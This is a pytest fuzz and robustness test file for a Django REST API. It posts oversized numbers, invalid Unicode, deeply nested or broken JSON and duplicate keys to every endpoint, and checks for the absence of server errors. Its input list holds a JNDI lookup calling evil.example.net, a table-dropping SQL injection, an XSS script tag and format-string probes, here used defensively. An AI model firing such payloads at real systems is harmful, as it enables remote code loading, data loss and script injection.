"""Bodies made to hurt: deep, long, of two meanings, with numbers and characters that nothing can hold."""

from __future__ import annotations

import json
import time
from collections import Counter
from typing import Any

import pytest
from django.test import Client
from drf_spectacular.generators import SchemaGenerator

from tests.api.routes import CALLS, Scene, routes
from tests.api.test_permissions import Person, everything, scene_of

pytestmark = pytest.mark.django_db
WRITES = [
    (route, call)
    for route in routes()
    for call in CALLS.get(route.name, ())
    if call.method in {"post", "put", "patch"}
]
NUMBERS = [
    "1e999999",
    "-1e999999",
    "1e-999999",
    "1E+400",
    "9" * 60,
    "9" * 5_000,
    "-" + "9" * 5_000,
    "0." + "9" * 5_000,
    "1" + "0" * 100_000,
    "NaN",
    "-NaN",
    "Infinity",
    "-Infinity",
    "0x10",
    "1_000",
    "01",
    "+1",
    ".5",
    "5.",
    "1e",
    "--1",
]
TEXTS = [
    '"\\u0000"',
    '"a\\u0000b"',
    '"\\ud800"',
    '"\\udfff\\ud800"',
    '"\\ud83d"',
    '"\\uffff"',
    '"\u202e"',
    '"\\u0007"',
    '"' + "a" * 1_000_000 + '"',
    '"' + "\\u0041" * 100_000 + '"',
    '"e\u0301' + "\u0301" * 10_000 + '"',
    '"\\u2028"',
    '"\ufeff"',
    '"{{7*7}}"',
    '"${jndi:ldap://evil.example.net/a}"',
    '"\'; DROP TABLE x; --"',
    '"%s%n%x"',
    '"<script>alert(1)</script>"',
]
SHAPES = ["null", "true", "[]", "{}", "[[]]", '""', "0", "[null]", '{"": ""}', '{"a": {"b": {}}}', "[{}, {}]"]
# these take no body, so they read none
BODILESS = {
    "api-alert-duplicate",
    "api-alert-pause",
    "api-alert-resume",
    "api-channel-pause",
    "api-channel-proof",
    "api-channel-resend",
    "api-channel-resume",
    "api-channel-rotate",
    "api-channel-test",
    "api-import-undo",
    "api-invitation-resend",
    "api-received-accept",
    "api-received-decline",
    "api-transaction-restore",
    "portfolio-position",
}
BROKEN = [
    b"{",
    b"[",
    b'{"a": 1,}',
    b"{'a': 1}",
    b"[1 2]",
    b"//",
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}",
    b"\x00",
    b"{}{}",
    b"{} x",
    b'{"a": "\xc3\x28"}',
    b'{"a": "\xed\xa0\x80"}',
    b'"' + b"\\" * 100_001,
    b"[" * 100_000,
    b'{"a":' * 100_000,
    b"[" * 50_000 + b"]" * 50_000,
    b"[" + b"{}," * 200_000 + b"{}]",
    b"[" + b"[]," * 100_000 + b"[]]",
]


@pytest.fixture(scope="module")
def ada(standing) -> Person:
    return Person("ada@example.org")


@pytest.fixture(scope="module")
def stage(ada) -> Scene:
    return scene_of(ada)


@pytest.fixture
def scene(stage) -> Scene:
    return stage.copy()


def raw(person: Person, method: str, url: str, body: bytes) -> Any:
    return Client().generic(
        method.upper(), url, body, content_type="application/json", headers=person.headers
    )


def with_raw(body: Any, place: str, value: str) -> bytes:
    """Write a body with one value as the given text of JSON."""
    marked = json.dumps(_put(body, place, "@@HERE@@"))
    return marked.replace('"@@HERE@@"', value).encode("utf-8", "surrogatepass")


def _put(body: Any, place: str, value: str) -> Any:
    return [{**body[0], place: value}] if isinstance(body, list) else {**body, place: value}


def places(body: Any) -> list[str]:
    row = body[0] if isinstance(body, list) and body else body
    return list(row) if isinstance(row, dict) else []


def is_clear(answer: Any) -> None:
    """Check that it is an answer of the document's: no server error, and never a value that JSON has not."""
    assert answer.status_code < 500, answer.content[:500]
    if answer.content:
        json.loads(answer.content, parse_constant=lambda name: pytest.fail(f"{name} in an answer"))


@pytest.mark.parametrize(
    ("route", "call"), WRITES, ids=[f"{call.method} {route.name}" for route, call in WRITES]
)
def test_field_of_any_value_is_never_a_server_error(route, call, ada, scene):
    """Each field of each body, with each number, text and shape that could hurt."""
    url = scene.url(route)
    begun = time.monotonic()
    for place in places(call.body):
        for value in (*NUMBERS, *TEXTS, *SHAPES):
            if route.name == "api-users-login" and place == "password" and len(value) > 2_000:
                continue
            is_clear(raw(ada, call.method, url, with_raw(scene.body(call.body), place, value)))
    assert time.monotonic() - begun < 60


@pytest.mark.parametrize("body", BROKEN, ids=range(len(BROKEN)))
def test_broken_body_is_refused_quickly_and_changes_nothing(ada, scene, body):
    some = [(route, call) for route, call in WRITES if route.name not in BODILESS]
    urls = [(call.method, scene.url(route)) for route, call in some]
    before = everything()
    for method, url in urls:
        begun = time.monotonic()
        answer = raw(ada, method, url, body)
        assert time.monotonic() - begun < 5, url
        is_clear(answer)
        assert answer.status_code in {400, 401, 403, 413, 415}, (url, answer.content[:300])
    assert everything() == before


def test_key_that_comes_twice_is_refused(ada):
    """None: whoever checks the first and whoever stores the last would mean different things."""
    before = everything()
    answer = raw(ada, "post", "/api/v1/portfolios", b'{"name": "First", "currency": "EUR", "name": "Second"}')
    assert answer.status_code == 400
    assert '"name\\" stands twice' in answer.content.decode()
    assert everything() == before


def queries() -> list[tuple[str, str]]:
    """List the parameters of queries, with the addresses of their operations in the document."""
    document = SchemaGenerator().get_schema(request=None, public=True)
    return [
        (path, one["name"])
        for path, item in document["paths"].items()
        for one in item.get("get", {}).get("parameters", [])
        if one["in"] == "query"
    ]


IN_QUERIES = [
    *("1e999999", "9" * 5_000, "-1", "NaN", "-Infinity", "0x10", "\\u0000", "%00", "%ff", "%ed%a0%80"),
    *("a" * 8_000, "[]", "1;2", "\u0660"),
]


def test_query_of_any_value_is_never_a_server_error(ada, scene):
    ids = {name: str(one) for name, one in scene.ids[""].items()}
    ids["tick_id"] = ids["uuid"]
    ids |= scene.on_demand["api-import"]()
    found = queries()
    assert len(found) > 40
    seen = Counter[str]()
    for path, name in found:
        url = path.format(**ids)
        # a parameter is read the same way everywhere: all values where it is met first, then some by turns
        values = IN_QUERIES[seen[name] % 4 :: 4] if seen[name] else IN_QUERIES
        seen[name] += 1
        for value in values:
            answer = Client().get(f"{url}?{name}={value}", headers=ada.headers)
            assert answer.status_code < 500, (url, name, value[:50], answer.content[:300])
